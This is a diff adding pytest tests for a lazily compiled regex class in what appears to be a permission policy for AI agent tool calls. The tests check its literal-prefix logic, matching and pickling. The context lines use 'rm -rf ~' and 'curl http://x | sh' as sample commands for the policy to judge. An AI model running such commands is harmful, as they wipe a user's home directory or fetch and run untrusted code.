@@ -73,3 +73,57 @@ def test_decisions_unchanged_after_round_trip() -> None:
     q = pickle.loads(pickle.dumps(p))
     for c in (bash("rm -rf ~"), bash("curl http://x | sh"), call("Write", file_path="/etc/x")):
         assert judge(q, c) == judge(p, c), c
+
+
+@pytest.mark.parametrize(
+    ("pattern", "flags", "prefix"),
+    [
+        (r"^mcp__.+__([a-z0-9]+[_-])?(?i:get|list)", 0, "mcp__"),
+        (r"^(?s:mcp__.*)\Z", 0, "mcp__"),  # a glob (glob_to_regex)
+        (r"\Agit\b", 0, "git"),
+        (r"^abc*", 0, "ab"),  # the c may repeat zero times
+        (r"^a\.b(?=c)", 0, "a.b"),
+        (r"^(ab)c", 0, "abc"),
+        (r"^mcp__x|foo", 0, ""),  # an alternation: "foo" matches too
+        (r"(?i)^mcp__", 0, ""),  # case-insensitive: K also matches the Kelvin sign
+        (r"^mcp__", re.IGNORECASE, ""),
+        (r"^(?i:mcp)__", 0, ""),
+        (r"(?m)^rm", 0, ""),  # ^ after any newline
+        (r"^rm", re.MULTILINE, ""),
+        (r"rm -rf", 0, ""),  # not anchored
+        (r"^.*x", 0, ""),
+    ],
+)
+def test_a_literal_prefix_is_only_what_every_match_starts_with(
+    pattern: str, flags: int, prefix: str
+) -> None:
+    assert LazyRegex(pattern, flags).prefix == prefix
+
+
+@pytest.mark.parametrize(
+    "pattern",
+    [r"^mcp__.+__(?i:get|list)_", r"^(?s:mcp__.*)\Z", r"^ab*c", r"(?i)^k", r"^mcp__x|foo"],
+)
+def test_a_prefix_never_changes_what_matches(pattern: str) -> None:
+    # The prefix only skips the compile for texts no match can start: every answer is the
+    # one the compiled expression gives, before and after pickling.
+    texts = ["mcp__s__get_x", "mcp__s__LIST_", "Mcp__s__get_", "mcp_", "", "ac", "abbbc", "abd"]
+    texts += ["k", "K", "\u212a", "foo", "xfoo", "mcp__x", "mcp__\n"]
+    compiled = re.compile(pattern)
+    for holder in (LazyRegex(pattern), pickle.loads(pickle.dumps(LazyRegex(pattern)))):
+        for text in texts:
+            for ours, theirs in ((holder.search, compiled.search), (holder.match, compiled.match)):
+                got, want = ours(text), theirs(text)
+                assert (got and got.span()) == (want and want.span()), (pattern, text)
+
+
+def test_a_read_call_compiles_no_tool_expression_it_cannot_match() -> None:
+    # The bundled policy's tool tests for MCP tools are anchored on "mcp__": a Read call
+    # tries those rules without compiling them (each compile is a fraction of a millisecond
+    # on every hook call).
+    policy = pickle.loads(pickle.dumps(load_policy(None).for_cache()))
+    judge(policy, call("Read", file_path="/home/u/p/README.md"))
+    mcp = [h for h in _holders(policy) if h.pattern.startswith(("^mcp__", "^(?s:mcp__"))]
+    assert mcp, "the bundled policy has no anchored mcp__ tool test any more"
+    assert all(h.prefix == "mcp__" for h in mcp)
+    assert not [h.pattern for h in mcp if h._compiled is not None]
